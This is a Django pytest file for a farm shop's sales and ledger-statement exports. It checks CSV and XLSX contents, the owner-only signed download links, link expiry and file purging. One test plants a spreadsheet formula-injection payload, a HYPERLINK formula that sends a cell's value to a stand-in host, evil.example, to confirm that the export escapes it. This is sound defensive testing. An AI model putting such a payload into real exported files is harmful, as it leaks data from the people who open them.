"""What a built report holds and how its owner gets it: the sales rows, CSV with a BOM, XLSX,
formula injection escaped, the signed owner-only link, its expiry and the purge."""

import csv
import io
from datetime import timedelta
from decimal import Decimal

import pytest
import time_machine
from django.utils import timezone

from checkout.services import order_cancel
from reports.models import Report
from reports.selectors import report_storage
from reports.tasks import purge_expired_reports
from tests.reports.conftest import read_file, recent_period, stored_files, xlsx_rows

pytestmark = pytest.mark.django_db


def test_a_sales_report_in_csv_has_a_bom_a_header_and_one_row_per_line(make_farm, sell, built):
    producer, farm_api, apples = make_farm()
    _, _, other_farms_listing = make_farm()
    first = sell(apples, 2)
    second = sell(apples, 1)
    sell(other_farms_listing, 5)  # another farm's sale is not in this farm's report

    report = built(farm_api)

    assert report["status"] == "done" and report["progress"] == 100
    assert report["row_count"] == 2
    assert report["download_url"].startswith("http://")
    content = read_file(report, farm_api)
    assert content.startswith(b"\xef\xbb\xbf")  # UTF-8 BOM: Excel reads the Chinese
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    assert rows[0][:8] == ["付款时间", "订单号", "商品编号", "商品", "单位", "数量", "单价", "金额"]
    assert [r[1] for r in rows[1:]] == [first.number, second.number]  # oldest payment first
    line = rows[1]
    assert line[3] == "红富士苹果 5斤装" and line[4] == "箱"
    assert line[5:9] == ["2", "39.90", "79.80", "CNY"]
    assert line[9:11] == ["已付款", "待发货"]
    assert timezone.localtime(first.paid_at).strftime("%Y-%m-%d %H:%M:%S") == line[0]
    # nothing about the buyer
    text = content.decode("utf-8-sig")
    assert "13800138000" not in text and "王小明" not in text and "文三路" not in text


def test_only_lines_paid_within_the_period_are_in_it(make_farm, sell, built):
    _, farm_api, apples = make_farm()
    sell(apples, 1)
    yesterday = timezone.localdate() - timedelta(days=1)

    report = built(farm_api, period_start=(yesterday - timedelta(days=10)).isoformat(),
                   period_end=yesterday.isoformat())

    assert report["status"] == "done" and report["row_count"] == 0
    rows = list(csv.reader(io.StringIO(read_file(report, farm_api).decode("utf-8-sig"))))
    assert len(rows) == 1  # the header alone


def test_a_sales_report_in_xlsx_opens_with_typed_cells(make_farm, sell, built):
    _, farm_api, apples = make_farm()
    order = sell(apples, 3)

    report = built(farm_api, fmt="xlsx")

    rows = xlsx_rows(read_file(report, farm_api))
    assert rows[0][:4] == ("付款时间", "订单号", "商品编号", "商品")
    line = rows[1]
    assert line[1] == order.number and line[3] == "红富士苹果 5斤装"
    assert line[5] == 3 and line[6] == pytest.approx(39.90) and line[7] == pytest.approx(119.70)
    assert line[0] == timezone.localtime(order.paid_at).replace(tzinfo=None, microsecond=0)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_text_that_starts_a_formula_is_escaped(make_farm, sell, built, fmt, buyer):
    title = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
    _, farm_api, apples = make_farm(title=title)
    order = sell(apples, 1)
    shipment = order.shipments.get()
    # the farm typed the carrier and tracking number themselves (an unknown carrier's number
    # is letters, digits and '-', so it can still start with '-')
    response = farm_api.post(f"/shipments/{shipment.pk}/ship",
                             {"carrier": "+顺丰", "tracking_number": "-12345678"})
    assert response.status_code == 200, response.content

    report = built(farm_api, fmt=fmt)

    content = read_file(report, farm_api)
    if fmt == "csv":
        rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    else:
        rows = xlsx_rows(content)
    line = rows[1]
    assert line[3] == "'" + title
    assert line[11] == "'+顺丰"
    assert line[12] == "'-12345678"
    # numbers stay numbers
    assert str(line[7]).startswith("39.9")


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_statement_lists_the_farms_ledger_movements_with_signed_amounts(
        make_farm, sell, built, buyer, fmt):
    producer, farm_api, apples = make_farm()
    _, _, other_farms_listing = make_farm()
    paid = sell(apples, 2)  # 79.80 of goods and 10.00 shipping owed to the farm
    cancelled = sell(apples, 1)  # paid, then cancelled by the buyer: taken back in full
    order_cancel(order_id=cancelled.pk, user=buyer)
    sell(other_farms_listing, 1)  # another farm's money is not in this farm's statement

    report = built(farm_api, kind="statement", fmt=fmt)

    assert report["status"] == "done"
    content = read_file(report, farm_api)
    if fmt == "csv":
        assert content.startswith(b"\xef\xbb\xbf")
        rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    else:
        rows = xlsx_rows(content)
    assert list(rows[0]) == ["序号", "记账时间", "类型", "金额", "币种", "订单号", "摘要"]
    lines = rows[1:]
    assert report["row_count"] == len(lines)
    amounts = [Decimal(str(line[3])).quantize(Decimal("0.01")) for line in lines]
    by_order = {}
    for line, amount in zip(lines, amounts, strict=True):
        by_order.setdefault(line[5], []).append((line[2], amount))
    assert sorted(by_order[paid.number]) == [("货款", Decimal("79.80")),
                                             ("运费", Decimal("10.00"))]
    taken_back = by_order[cancelled.number]
    assert sum(a for _, a in taken_back) == 0  # owed, then taken back to the fen
    assert {k for k, a in taken_back if a < 0} == {"退款"}
    if fmt == "csv":
        # a negative amount is a number, not text that starts a formula: no quote before it
        assert any(line[3].startswith("-") for line in lines)
    else:
        assert all(isinstance(line[3], int | float) for line in lines)
    assert [int(line[0]) for line in lines] == sorted(int(line[0]) for line in lines)


def test_the_link_is_for_the_owner_alone(make_farm, sell, built, api):
    _, farm_api, apples = make_farm()
    _, other_api, _ = make_farm()
    sell(apples, 1)
    report = built(farm_api)
    path = "/" + report["download_url"].split("://", 1)[1].split("/", 1)[1]

    assert api.get(path).status_code == 401  # the link alone opens nothing
    response = other_api.get(path)
    assert response.status_code == 404
    assert response.json()["error"]["code"] == "report_not_found"
    tampered = path[:-3] + ("AAA" if not path.endswith("AAA") else "BBB")
    response = farm_api.get(tampered)
    assert response.status_code == 404
    assert response.json()["error"]["code"] == "report_not_found"
    response = farm_api.get(path)
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Cache-Control"] == "private, no-store"
    assert "attachment" in response["Content-Disposition"]
    assert "filename*=utf-8''" in response["Content-Disposition"].lower()  # 销售明细_...csv


def test_a_report_not_done_has_no_link_and_no_file(make_farm):
    _, farm_api, _ = make_farm()
    report = farm_api.post("/reports",
                           {"kind": "sales", "format": "csv", **recent_period()}).json()

    response = farm_api.get(f"/reports/{report['id']}/download?token=anything")

    assert report["download_url"] is None
    assert response.status_code == 409
    assert response.json()["error"]["code"] == "report_not_ready"


def test_the_link_expires_and_the_purge_deletes_the_file(make_farm, sell, built, settings):
    settings.REPORT_TTL_HOURS = 2
    _, farm_api, apples = make_farm()
    sell(apples, 1)
    report = built(farm_api)
    path = "/" + report["download_url"].split("://", 1)[1].split("/", 1)[1]
    assert len(stored_files()) == 1
    assert purge_expired_reports() == 0  # nothing expired yet

    with time_machine.travel(timezone.now() + timedelta(hours=2, seconds=1)):
        response = farm_api.get(path)
        assert response.status_code == 404
        assert response.json()["error"]["code"] == "report_expired"
        assert farm_api.get(f"/reports/{report['id']}").json()["download_url"] is None

        assert purge_expired_reports() == 1
        assert purge_expired_reports() == 0  # twice deletes nothing twice

    assert stored_files() == []
    stored = Report.objects.get(pk=report["id"])
    assert stored.file_name == "" and stored.purged_at is not None
    response = farm_api.get(path)
    assert response.status_code == 404
    assert response.json()["error"]["code"] == "report_expired"
    body = farm_api.get(f"/reports/{report['id']}").json()
    assert body["status"] == "done" and body["download_url"] is None


def test_the_file_is_in_the_reports_storage_not_in_public_media(make_farm, sell, built,
                                                                settings):
    _, farm_api, apples = make_farm()
    sell(apples, 1)

    report = built(farm_api)

    name = Report.objects.get(pk=report["id"]).file_name
    assert report_storage().exists(name)
    assert str(settings.MEDIA_ROOT) not in report_storage().path(name)
    assert name not in report["download_url"]  # the link does not say where the file is
